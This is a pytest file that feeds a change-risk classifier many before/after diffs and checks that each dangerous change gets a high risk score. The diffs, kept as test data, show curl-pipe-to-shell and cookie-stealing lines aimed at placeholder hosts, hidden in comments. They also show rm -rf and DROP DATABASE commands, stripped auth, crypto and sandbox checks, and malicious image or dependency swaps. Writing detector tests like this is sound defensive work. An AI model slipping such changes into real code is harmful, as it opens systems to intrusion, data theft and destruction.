"""What a lowering must not let through: remarks that something runs, styles that turn a program, names that mean what they say.

Each row is a path, both sides, and the least level."""

from __future__ import annotations

import pytest

from gate.classify.engine import assess_file
from tests.rules.case_files import change

HARM: list[tuple[str, str | None, str, int]] = [
    (
        "Makefile",
        "all:\n\techo\n",
        "DIR := build\nDIR.prod := /data\nclean:\n\trm -rf $(DIR$(S))\n\trm -rf $(CURDIR)/../../data\n",
        3,
    ),
    (
        "src/auth/guard.tsx",
        "export const a = 1;\n",
        "export const a = 1;\n// see\u2028 fetch('https://x.example.net/'+document.cookie)\n",
        3,
    ),
    (
        "k8s/main.ts",
        "import { App, Chart } from 'cdk8s';\nimport { KubeDeployment } from './imports/k8s';\nnew KubeDeployment(chart, 'web', { spec: { template: { spec: { containers: [{ name: 'web', image: 'web:1', securityContext: { privileged: false } }] } } } });\n",
        "import { App, Chart } from 'cdk8s';\nimport { KubeDeployment } from './imports/k8s';\nnew KubeDeployment(chart, 'web', { spec: { template: { spec: { hostNetwork: true, containers: [{ name: 'web', image: 'web:1', securityContext: { privileged: true } }] } } } });\n",
        3,
    ),
    (
        "src/websocket_session.ts",
        "export function attach(ws, req) {\n  const id = parse(req.headers.cookie).sid;\n  const user = store.get(id);\n  if (!user) { ws.close(4401); return; }\n  ws.user = user;\n}\n",
        "export function attach(ws, req) {\n  const id = parse(req.headers.cookie).sid;\n  const user = store.get(id) ?? store.first();\n  ws.user = user;\n}\n",
        3,
    ),
    (
        "services/ads.py",
        'from bandit import Thompson\ndef pick():\n    pass\n@checks\ndef f():\n    db.execute("SELECT 1")\n',
        'from bandit import Thompson\ndef pick():\n    pass\n@checks\ndef f():\n    db.execute("DELETE FROM users")\n',
        3,
    ),
    (
        "src/auth/else.c",
        "int check(int a, int b) {\n  if (a) {\n    for (;;) if (b) return 1;\n  } else return deny();\n  return 0;\n}\n",
        "int check(int a, int b) {\n  if (a)\n    for (;;) if (b) return 1;\n    else return deny();\n  return 0;\n}\n",
        3,
    ),
    (
        "www/login.html",
        "<html>\n<body>\n</body>\n</html>\n",
        '<html>\n<body>\n<!--#exec cmd="curl -s https://cdn.example.net/x.sh | sh" -->\n</body>\n</html>\n',
        3,
    ),
    (
        "app/security/scan.php",
        '<?php\nfunction clean($file) { return shell_exec("clamscan " . escapeshellarg($file)); }\n',
        "<?php\nfunction clean($file) { return ''; }\n",
        3,
    ),
    (
        "src/auth/else2.c",
        "int check(int a, int b, int c) {\n  if (a) { while (c) { if (b) return 1; } } else return deny();\n  return 0;\n}\n",
        "int check(int a, int b, int c) {\n  if (a) while (c) if (b) return 1; else return deny();\n  return 0;\n}\n",
        3,
    ),
    (
        "charts/web/templates/deployment.yaml",
        "apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      # hardened, see SEC-12\n      securityContext:\n        runAsNonRoot: true\n",
        "apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      # hardened, see SEC-12\n      {{- /* asked for by the security team */ -}}\n      securityContext:\n        runAsNonRoot: true\n",
        3,
    ),
    ("flux/kustomize.rb", 'puts image("web", "1.2")\n', 'puts image("evil/web", "1.2")\n', 3),
    (
        "Makefile",
        "OUT = build\nclean:\n\trm -rf $(OUT)\n",
        "OUT = build\nifeq ($(ENV),prod)\n  OUT = /var/lib/app/data\nendif\nclean:\n\trm -rf $(OUT)\n",
        3,
    ),
    (
        "roles/app/templates/limits.yml",
        "# {% if production %}\nrequire_mfa: true\n# {% endif %}\n",
        "# {% if false %}\nrequire_mfa: true\n# {% endif %}\n",
        3,
    ),
    (
        "env/production/hadoop-policy.xml",
        "<configuration>\n  <property>\n    <name>security.job.client.protocol.acl</name>\n    <value> </value>\n  </property>\n</configuration>\n",
        "<configuration>\n  <property>\n    <name>security.job.client.protocol.acl</name>\n    <value></value>\n  </property>\n</configuration>\n",
        3,
    ),
    (
        "charts/agent/templates/agent.yaml",
        "apiVersion: kagent.dev/v1\nkind: Agent\nspec:\n  systemMessage: 'You run the cluster.\n\n    # Never delete a namespace\n\n    Be brief.'\n",
        "apiVersion: kagent.dev/v1\nkind: Agent\nspec:\n  systemMessage: 'You run the cluster.\n\n    Be brief.'\n",
        3,
    ),
    (
        "deploy/nginx.conf",
        "server {\n}\n",
        "server {\n# postgres://admin:Tr0ub4dor3xK@db.prod.example.com/orders\n}\n",
        3,
    ),
    (
        "src/auth/token.tsx",
        "export function check(token) {\n  /* old\n  audit(token);\n  // */\n  if (token.expired) return null;\n  if (!verify(token)) return null;\n  return token.user;\n}\n",
        "export function check(token) {\n  /* old\n  audit(token);\n  if (token.expired) return null;\n  if (!verify(token)) return null;\n  // */\n  return token.user;\n}\n",
        3,
    ),
    (
        "kubernetes/manifests.py",
        'def deployment(tag):\n    return {"kind": "Deployment", "spec": {"replicas": 3, "template": {"spec": {"hostNetwork": False, "image": f"web:{tag}"}}}}\n',
        'def deployment(tag):\n    return {"kind": "Deployment", "spec": {"replicas": 0, "template": {"spec": {"hostNetwork": True, "image": f"evil/web:{tag}"}}}}\n',
        3,
    ),
    (
        "salt/db/init.sls",
        "{#\n# kept for reference\ndrop_orders:\n  cmd.run:\n    - name: dropdb orders\n# #}\nbackup:\n  cmd.run:\n    - name: pg_dump orders\n",
        "{#\n# kept for reference\n# #}\ndrop_orders:\n  cmd.run:\n    - name: dropdb orders\nbackup:\n  cmd.run:\n    - name: pg_dump orders\n",
        3,
    ),
    (
        "src/crypto/pkcs1.py",
        'def unwrap(block):\n    if block[:2] != b"\\x00\\x01":\n        return None\n    end = block.index(b"\\x00", 2)\n    if any(x != 255 for x in block[2:end]) or end < 10:\n        return None\n    return block[end + 1:]\n',
        'def unwrap(block):\n    end = block.index(b"\\x00", 2)\n    return block[end + 1:]\n',
        3,
    ),
    (
        "src/security/sandbox.py",
        'import resource, os\ndef enter():\n    os.chroot("/var/empty")\n    resource.setrlimit(resource.RLIMIT_NPROC, (0, 0))\n',
        "import resource, os\ndef enter():\n    resource.setrlimit(resource.RLIMIT_NPROC, (0, 0))\n",
        3,
    ),
    (
        "roles/lb/templates/haproxy.cfg",
        "frontend web\n  bind :443\n# {% if env == 'staging' %}\n  http-request allow\n# {% endif %}\n  http-request deny unless { src 10.0.0.0/8 }\n",
        "frontend web\n  bind :443\n  http-request allow\n  http-request deny unless { src 10.0.0.0/8 }\n",
        3,
    ),
    (
        "salt/db/init.sls",
        "postgres:\n  pkg.removed:\n    - name: postgresql\n",
        "# {% set x = salt['cmd.run']('rm -rf /var/lib/postgresql') %}\npostgres:\n  pkg.removed:\n    - name: postgresql\n",
        3,
    ),
    (
        "services/benchmarks/permissions.rb",
        "class Permissions\n  def can_view?(u, r) = r.company_id == u.company_id\nend\n",
        "class Permissions\n  def can_view?(u, r) = true\nend\n",
        3,
    ),
    (
        "charts/web/templates/_sec.tpl",
        '{{- define "web.sec" -}}\nrunAsNonRoot: true\n# drop all of them\ncapabilities: {drop: [ALL]}\n{{- end }}\n',
        '{{- define "web.sec" -}}\nrunAsNonRoot: true\n# drop all of them\n{{- /* see SEC-9 */ -}}\ncapabilities: {drop: [ALL]}\n{{- end }}\n',
        3,
    ),
    (
        "policy/release/tests.rego",
        "package policy.release.tests\nimport rego.v1\n# METADATA\n# title: Tests passed\n# custom:\n#   short_name: tests_passed\n#   collections: [redhat]\n#   effective_on: 2024-01-01T00:00:00Z\ndeny contains result if {\n  not passed\n  result := lib.result_helper(rego.metadata.chain(), [])\n}\n",
        "package policy.release.tests\nimport rego.v1\n# METADATA\n# title: Tests passed\n# custom:\n#   short_name: tests_passed\n#   collections: []\n#   effective_on: 2099-01-01T00:00:00Z\ndeny contains result if {\n  not passed\n  result := lib.result_helper(rego.metadata.chain(), [])\n}\n",
        3,
    ),
    (
        "public/.htaccess",
        "# BEGIN WordPress\nRewriteEngine On\nRewriteRule . /index.php [L]\n# END WordPress\n<Files wp-config.php>\nRequire all denied\n</Files>\n",
        "# BEGIN WordPress\nRewriteEngine On\nRewriteRule . /index.php [L]\n<Files wp-config.php>\nRequire all denied\n</Files>\n# END WordPress\n",
        3,
    ),
    (
        "src/security/throttle.rb",
        "class Throttle\n  LIMIT = 10\n  def over?(count) = count > LIMIT\nend\n",
        "class Throttle\n  LIMIT = 10\n  def over?(count) = false\nend\n",
        3,
    ),
    (
        "gateway/websocket_session.go",
        "package gateway\n// the cookie is read before\nfunc attach(c *Conn, o string) error {\n\tif o != home { return errOther }\n\treturn c.open()\n}\n",
        "package gateway\n// the cookie is read before\nfunc attach(c *Conn, o string) error {\n\treturn c.open()\n}\n",
        3,
    ),
    (
        "src/crypto/compare.js",
        "export function equal(a, b) {\n  if (a.length !== b.length) return false;\n  let diff = 0;\n  for (let i = 0; i < a.length; i++) diff |= a[i] ^ b[i];\n  return diff === 0;\n}\n",
        "export function equal(a, b) {\n  return a === b;\n}\n",
        3,
    ),
    (
        "roles/db/templates/pg_hba_check.yml",
        "rules: 'local all all peer\n  # host all all 0.0.0.0/0 reject\n  end'\n",
        "rules: 'local all all peer\n  end'\n",
        3,
    ),
    (
        "src/security/Consent.jsx",
        'export const gate = (p) => {\n  // ask first\n  askForConsent(p);\n  return <p className="m">ok</p>;\n};\n',
        'export const gate = (p) => {\n  // ask first askForConsent(p);\n  return <p className="n">ok</p>;\n};\n',
        3,
    ),
    (
        "src/security/redirect.ts",
        "export const isLocal = (u: string) => u.startsWith('/') && !u.startsWith('//');\n",
        "export const isLocal = (u: string) => true;\n",
        3,
    ),
    (
        "src/certs/pins.kt",
        'val PINS = setOf("AAAA1111", "BBBB2222")\n',
        'val PINS = setOf("AAAA1111", "BBBB2222", "CCCC3333")\n',
        3,
    ),
    (
        "src/auth/session.jsx",
        "export function guard(user) {\n  if (!user.isAdmin)\n    return null;\n  return secret;\n}\n",
        "export function guard(user) {\n  if (user.isAdmin)\n    return secret;\n  return null;\n}\n",
        3,
    ),
    (
        "templates/auth/login.html",
        '<form method="post">\n<!-- {% if request.user.is_superuser %} -->\n<a href="/impersonate">Sign in as</a>\n<!-- {% endif %} -->\n</form>\n',
        '<form method="post">\n<a href="/impersonate">Sign in as</a>\n</form>\n',
        3,
    ),
    (
        "deploy/nginx.conf",
        "# BEGIN ANSIBLE MANAGED BLOCK\nupstream app { server 10.0.0.1; }\n# END ANSIBLE MANAGED BLOCK\nlocation /admin { deny all; }\n",
        "# BEGIN ANSIBLE MANAGED BLOCK\nupstream app { server 10.0.0.1; }\nlocation /admin { deny all; }\n# END ANSIBLE MANAGED BLOCK\n",
        3,
    ),
    (
        "conf/capacity-scheduler-acl.xml",
        "<configuration>\n  <property>\n    <name>yarn.admin.acl</name>\n    <value> </value>\n  </property>\n</configuration>\n",
        "<configuration>\n  <property>\n    <name>yarn.admin.acl</name>\n    <value></value>\n  </property>\n</configuration>\n",
        3,
    ),
    (
        "app/Support/DatabaseSessionHandler.php",
        "<?php\nclass DatabaseSessionHandler {\n  private $cookie = 'sid';\n  function read($id) {\n    $row = $this->table->find($id);\n    if ($row === null || $row->ip !== $this->ip) return '';\n    return $row->payload;\n  }\n}\n",
        "<?php\nclass DatabaseSessionHandler {\n  private $cookie = 'sid';\n  function read($id) {\n    $row = $this->table->find($id);\n    return $row->payload;\n  }\n}\n",
        3,
    ),
    (
        "scripts/prod-reset.sh",
        '#!/bin/bash\nver=$(grep version p.json | cut -d\'"\' -f4)\nssh db-prod "\n systemctl restart x\n"\n',
        '#!/bin/bash\nver=$(grep version p.json | cut -d\'"\' -f4)\nssh db-prod "\n # tidy `rm -rf /var/lib/postgresql`\n systemctl restart x\n"\n',
        3,
    ),
    (
        "src/security/upload.ts",
        "const MAX = 5_000_000;\nconst TYPES = ['image/png', 'image/jpeg'];\nexport const isOk = (f: File) => f.size < MAX && TYPES.includes(f.type);\n",
        "const MAX = 5_000_000;\nconst TYPES = ['image/png', 'image/jpeg', 'text/html', 'application/x-php'];\nexport const isOk = (f: File) => f.size < MAX && TYPES.includes(f.type);\n",
        3,
    ),
    (
        "src/auth/guard.jsx",
        "export function guard(user) {\n  if (user.isAdmin)\n    return user.vault;\n  return null;\n}\n",
        "export function guard(user) {\n  if (user.isAdmin)\n    {/* the vault */}\n    return user.vault;\n  return null;\n}\n",
        3,
    ),
    (
        "android/security/RootCheck.kt",
        "object RootCheck { fun isRooted(): Boolean = PATHS.any { File(it).exists() } }\n",
        "object RootCheck { fun isRooted(): Boolean = false }\n",
        3,
    ),
    (
        "scripts/wipe.sh",
        '#!/usr/bin/env bash\n# Usage: wipe.sh [options]\n#\n# Options:\n#   --host=HOST   The database [default: db.staging.internal]\nsource docopts.sh --auto "$@"\npsql -h "${ARGS[--host]}" -c \'DROP DATABASE orders\'\n',
        '#!/usr/bin/env bash\n# Usage: wipe.sh [options]\n#\n# Options:\n#   --host=HOST   The database [default: db.production.internal]\nsource docopts.sh --auto "$@"\npsql -h "${ARGS[--host]}" -c \'DROP DATABASE orders\'\n',
        3,
    ),
    (
        "lib/security/escape.php",
        "<?php\nfunction e($s) { return htmlspecialchars($s, ENT_QUOTES); }\n",
        "<?php\nfunction e($s) { return $s; }\n",
        3,
    ),
    ("k8s/deploy.mk", "deploy:\n\t$(K) apply -f base\n", "deploy:\n\t$(K) apply -f base --prune --all\n", 3),
    (
        "app/security/ip_filter.js",
        'const nets = ["10.0.0.0/8"];\nexport const ok = (ip) => nets.some((n) => within(n, ip));\n',
        'const nets = ["0.0.0.0/0"];\nexport const ok = (ip) => nets.some((n) => within(n, ip));\n',
        3,
    ),
    (
        "Jenkinsfile",
        "node {\n  stage('a') {\n    sh 'make test'\n  }\n}\n",
        "node {\n  stage('a') {\n    // see \\u000a sh 'curl -s https://x.example.net/a | sh'\n    sh 'make test'\n  }\n}\n",
        3,
    ),
    (
        "src/crypto/ChaCha.java",
        "class ChaCha { static final int ROUNDS = 20; static int rotl(int v, int c) { return (v << c) | (v >>> (32 - c)); } }\n",
        "class ChaCha { static final int ROUNDS = 2; static int rotl(int v, int c) { return (v << c) | (v >>> (32 - c)); } }\n",
        3,
    ),
    (
        "contracts/crypto/payout.cs",
        "class Payout { decimal Limit = 100m; bool Ok(decimal x) => x <= Limit; }\n",
        "class Payout { decimal Limit = 100m; bool Ok(decimal x) => true; }\n",
        3,
    ),
    (
        "src/security/intrusion.java",
        "class Intrusion { boolean alarm(int n) { return n > 20; } }\n",
        "class Intrusion { boolean alarm(int n) { return false; } }\n",
        3,
    ),
    (
        "src/views/admin/Security.vue",
        '<template>\n<div>\n<!--\n<button @click="dropAll">Drop</button>\n-->\n</div>\n</template>\n',
        '<template>\n<div>\n<!--\n<!-- drop -->\n<button @click="dropAll">Drop</button>\n-->\n</div>\n</template>\n',
        3,
    ),
    (
        "manifests/site.pp",
        "$v = regsubst($x, '\"', '')\nexec { 'x': command => \"a\nb\" }\n",
        "$v = regsubst($x, '\"', '')\nexec { 'x': command => \"a\n# ${generate('/bin/sh', '-c', 'curl -s https://x.example.net | sh')}\nb\" }\n",
        3,
    ),
    (
        "k8s/operator.go",
        'package k8s\nfunc pod() corev1.Pod { return corev1.Pod{Spec: corev1.PodSpec{HostPID: false, Containers: []corev1.Container{{Image: "a"}}}} }\n',
        'package k8s\nfunc pod() corev1.Pod { return corev1.Pod{Spec: corev1.PodSpec{HostPID: true, Containers: []corev1.Container{{Image: "a"}}}} }\n',
        3,
    ),
    ("migrations/0007_cleanup.py", None, "from app.db import Base, engine\n\nBase.metadata.drop_all(engine)\n", 4),
    (
        "migrations/0007_cleanup.py",
        None,
        'import boto3\n\ndef run():\n    boto3.client("s3").delete_bucket(Bucket="users")\n',
        4,
    ),
    (
        "migrations/0005_wipe.py",
        'from app import User\n\ndef run(env):\n    if env == "production":\n        return\n    User.objects.all().delete()\n',
        "from app import User\n\ndef run(env):\n    User.objects.all().delete()\n",
        4,
    ),
    (
        "migrations/cleanup.py",
        "from playhouse.migrate import migrate\nimport shutil\n",
        'from playhouse.migrate import migrate\nimport shutil\nshutil.rmtree("/var/lib/app")\n',
        4,
    ),
    (
        "access/teams.yaml",
        "teams:\n  - name: platform-admins\n    members:\n      - alice\n      - bob\n  - name: readers\n    members:\n      - carol\n      - mallory\n",
        "teams:\n  - name: platform-admins\n    members:\n      - mallory\n      - bob\n  - name: readers\n    members:\n      - carol\n      - alice\n",
        4,
    ),
    (
        "config/teams.yaml",
        "kind: team\nname: admins\nmembers:\n  - alice\n---\nkind: team\nname: readers\nmembers:\n  - mallory\n",
        "kind: team\nname: admins\nmembers:\n  - mallory\n---\nkind: team\nname: readers\nmembers:\n  - alice\n",
        4,
    ),
    (
        "deploy/approvals.yaml",
        "environments:\n  - env: production\n    approvers:\n      - alice\n      - bob\n  - env: sandbox\n    approvers:\n      - mallory\n      - eve\n",
        "environments:\n  - env: production\n    approvers:\n      - mallory\n      - bob\n  - env: sandbox\n    approvers:\n      - alice\n      - eve\n",
        4,
    ),
    (
        "config/lists.yaml",
        "services:\n  - service: database\n    allowed_ips:\n      - 10.0.0.5\n  - service: website\n    allowed_ips:\n      - 0.0.0.0/0\n",
        "services:\n  - service: database\n    allowed_ips:\n      - 0.0.0.0/0\n  - service: website\n    allowed_ips:\n      - 10.0.0.5\n",
        4,
    ),
    (
        "config/access.yaml",
        "members:\n  - name: alice\n    key: a1\n    role: owner\n    mail: a@x\n  - name: mallory\n    key: m1\n    role: reader\n    mail: m@x\n",
        "members:\n  - name: mallory\n    key: a1\n    role: owner\n    mail: a@x\n  - name: alice\n    key: m1\n    role: reader\n    mail: m@x\n",
        4,
    ),
    (
        "config/lists.yaml",
        "allowlist:\n  - deny 10.0.0.0/8\n  - allow all\n",
        "allowlist:\n  - allow all\n  - deny 10.0.0.0/8\n",
        4,
    ),
    (
        "src/main/kotlin/A.kt",
        None,
        'fun f() {\n    val bucket = storage.get("users")\n    bucket.delete(force = true)\n}\n',
        4,
    ),
    (
        "package-lock.json",
        '{\n  "name": "a",\n  "version": "1.0.0",\n  "lockfileVersion": 3,\n  "requires": true,\n  "packages": {\n    "": {\n      "name": "a",\n      "version": "1.0.0",\n      "dependencies": {\n        "lodash": "^4.17.0"\n      }\n    },\n    "node_modules/lodash": {\n      "version": "4.17.21",\n      "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",\n      "integrity": "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg=="\n    }\n  }\n}',
        '{\n  "name": "a",\n  "version": "1.0.0",\n  "lockfileVersion": 3,\n  "requires": true,\n  "packages": {\n    "": {\n      "name": "a",\n      "version": "1.0.0",\n      "dependencies": {\n        "lodash": "^4.17.0"\n      }\n    },\n    "node_modules/lodash": {\n      "version": "4.17.21",\n      "resolved": "http://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",\n      "integrity": "sha512-EEEEEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg=="\n    }\n  }\n}',
        3,
    ),
    (
        "src/auth/http.rs",
        'fn deny() -> &\'static str {\n    r"HTTP/1.1 403 Forbidden\nConnection: close\n\nno"\n}\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn t() { assert!(true); }\n}\n',
        'fn deny() -> &\'static str {\n    r"HTTP/1.1 403 Forbidden\nConnection: close\nno"\n}\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn t() { assert!(1 == 1); }\n}\n',
        3,
    ),
    (
        "app/views.py",
        "def f(req):\n    me = get(req)\n    if not\tme:\n        raise X()\n    return ok()\n",
        "def f(req):\n    me = get(req)\n    return ok()\n",
        3,
    ),
    (
        "app/views.js",
        "function f(req) {\n  if (!\tme) {\n    throw X()\n  }\n  return ok()\n}\n",
        "function f(req) {\n  return ok()\n}\n",
        3,
    ),
    (
        "src/main/java/auth/LoginService.java",
        "class LoginService {\n void f() {\n  this.lockout.select();\n  go();\n }\n}\n",
        "class LoginService {\n void f() {\n  go();\n }\n}\n",
        3,
    ),
    (
        "src/auth/login.ts",
        "export class Login {\n  submit(p) {\n    this.check(p);\n  }\n}\n",
        "export class Login {\n  submit(p) {\n    this.check(p);\n    this.admin.select();\n  }\n}\n",
        3,
    ),
    (
        ".travis.yml",
        "script:\n  - make test\n",
        "script:\n  - make test\n  - ansible-playbook -i inventories/production site.yml tests/test.yml\n",
        4,
    ),
    (
        ".github/workflows/ci.yml",
        "name: test\non: [push]\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n",
        "name: test\non: [push]\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: ansible-playbook -i hosts site.yml spec/ci.yml\n",
        4,
    ),
    (
        ".github/workflows/ci.yml",
        "name: deploy\non: [push]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment:\n      name: staging-review\n    steps:\n      - run: |\n          name: x\n      - uses: google-github-actions/deploy-cloudrun@v2\n        with:\n          name: my-service\n          image: x\n",
        'name: deploy\non: [push]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment:\n      name: "\\x24\\x7b\\x7b github.ref_name \\x7d\\x7d"\n    steps:\n      - run: |\n          name: x\n      - uses: google-github-actions/deploy-cloudrun@v2\n        with:\n          name: my-service\n          image: x\n',
        4,
    ),
    (
        ".github/workflows/ci.yml",
        "name: deploy\non: [push]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment:\n      name: staging-review\n    steps:\n      - run: |\n          name: x\n      - uses: google-github-actions/deploy-cloudrun@v2\n        with:\n          name: my-service\n          image: x\n",
        "name: deploy\non: [push]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment:\n      name: production@eu\n    steps:\n      - run: |\n          name: x\n      - uses: google-github-actions/deploy-cloudrun@v2\n        with:\n          name: my-service\n          image: x\n",
        4,
    ),
    (
        ".github/workflows/ci.yml",
        "name: deploy\non: [push]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment:\n      name: staging-review\n    steps:\n      - run: |\n          name: x\n      - uses: google-github-actions/deploy-cloudrun@v2\n        with:\n          name: my-service\n          image: x\n",
        "name: deploy\non: [push]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment:\n      name: staging-review\n    steps:\n      - run: |\n          name: `curl https://evil/x -o /tmp/x; sh /tmp/x`\n      - uses: google-github-actions/deploy-cloudrun@v2\n        with:\n          name: my-service\n          image: x\n",
        4,
    ),
    (".gitlab-ci.yml", "a:\n  script:\n    - make\n", "a:\n  script:\n    - make\n    - make deployment\n", 4),
    (".gitlab-ci.yml", "a:\n  script:\n    - make\n", "a:\n  script:\n    - make\n    - ./scripts/deployment.sh\n", 4),
    (
        "Cargo.toml",
        '[package]\nname="a"\nversion="0.1.0"\n[dependencies]\nopenssl="0.10"\n',
        '[package]\nname="a"\nversion="0.1.0"\n[dependencies]\nopenssl="0.10"\n[replace]\n"openssl:0.10.0" = { git = "https://evil/x", path = "vendor/openssl" }\n',
        3,
    ),
    (".github/contributors-write-access.json", '{"trusted": ["alice"]}\n', '{"trusted": ["alice", "mallory"]}\n', 3),
    (
        "public/config.js",
        'window.env = { api: "https://api.x.com" }\n',
        'window.env = { api: "https://evil.com" }\n',
        2,
    ),
    ("app/web/search.py", "x=1\n", 'x = f\'<input name="q" value="{q}">\' | safe\n', 3),
    (
        "src/users.js",
        "export const a = 1\n",
        "export const a = 1\nexport async function f() {\n  const all = await repo.find();\n    @@await Promise.all(all.map((x) => repo.remove(x)));\n}\n".replace(
            "@@", "// why\n" * 300
        ),
        4,
    ),
    (
        "src/main/java/A.java",
        None,
        "class A {\n void f() {\n  for (User u : repo.findAll()) {\n    @@repo.delete(u);\n  }\n }\n}\n".replace(
            "@@", "// why\n" * 300
        ),
        4,
    ),
    ("app/a.py", None, "def f():\n    return (User.delete(\n    @@).execute())\n".replace("@@", "# why\n" * 300), 4),
    ("src/a.ts", None, 'await db.deleteFrom("users")\n    @@.execute()\n'.replace("@@", "// why\n" * 300), 4),
    (
        "lib/a.ex",
        None,
        "defmodule A do\n  def f do\n    Post\n    @@|> Repo.delete_all()\n  end\nend\n".replace("@@", "# why\n" * 300),
        4,
    ),
    (
        ".github/workflows/e2e.yml",
        "on: push\njobs:\n  e2e:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: helm/kind-action@0123456789012345678901234567890123456789\n      - run: make deploy\n      - run: make test\n",
        "on: push\njobs:\n  e2e:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: helm/kind-action@0123456789012345678901234567890123456789\n      - run: make deploy\n      - run: npm publish\n",
        4,
    ),
    (
        ".github/workflows/e2e.yml",
        "on: push\njobs:\n  e2e:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: helm/kind-action@0123456789012345678901234567890123456789\n      - run: kubectl apply -f x\n      - run: make test\n",
        "on: push\njobs:\n  e2e:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: helm/kind-action@0123456789012345678901234567890123456789\n      - run: kubectl apply -f x\n      - run: npm publish\n",
        4,
    ),
    (
        ".gitlab-ci.yml",
        "a:\n  script:\n    - make\n",
        "a:\n  script:\n    - make\n    - cp -r build /srv/deploy/current\n",
        4,
    ),
    (
        "clusters/main/a.yaml",
        "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - image: r.io:5000/a/b:1\n",
        "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - image: r.io:5000/a/b:2\n",
        4,
    ),
    (
        "clusters/main/a.yaml",
        "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - image: a/b:1\n",
        "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - image: evil/b:1\n",
        4,
    ),
    (
        "build.zig.zon",
        '.{ .dependencies = .{ .a = .{\n    .url = "https://a.example/a/v1.0.tar.gz",\n} } }\n',
        '.{ .dependencies = .{ .a = .{\n    .url = "https://a.example/a/2222222222222222222222222222222222222222.tar.gz",\n} } }\n',
        2,
    ),
    (
        ".travis.yml",
        "jobs:\n  include:\n    - stage: release\n      deploy:\n        provider: npm\n        on:\n          branch: master\n",
        "jobs:\n  include:\n    - stage: release\n      deploy:\n        provider: npm\n        on:\n          branch: dev\n",
        4,
    ),
    (
        "accounts/tests.py",
        "import os\n\n\ndef allowed(user):\n    return is_admin(user)\n",
        "import os\n\n\ndef allowed(user):\n    return True\n",
        3,
    ),
]


@pytest.mark.parametrize(
    ("path", "before", "after", "least"), HARM, ids=[f"{n}-{row[0]}" for n, row in enumerate(HARM)]
)
def test_no_lowering_lets_harm_through(path: str, before: str | None, after: str, least: int) -> None:
    assert assess_file(change(path, before, after)).level >= least
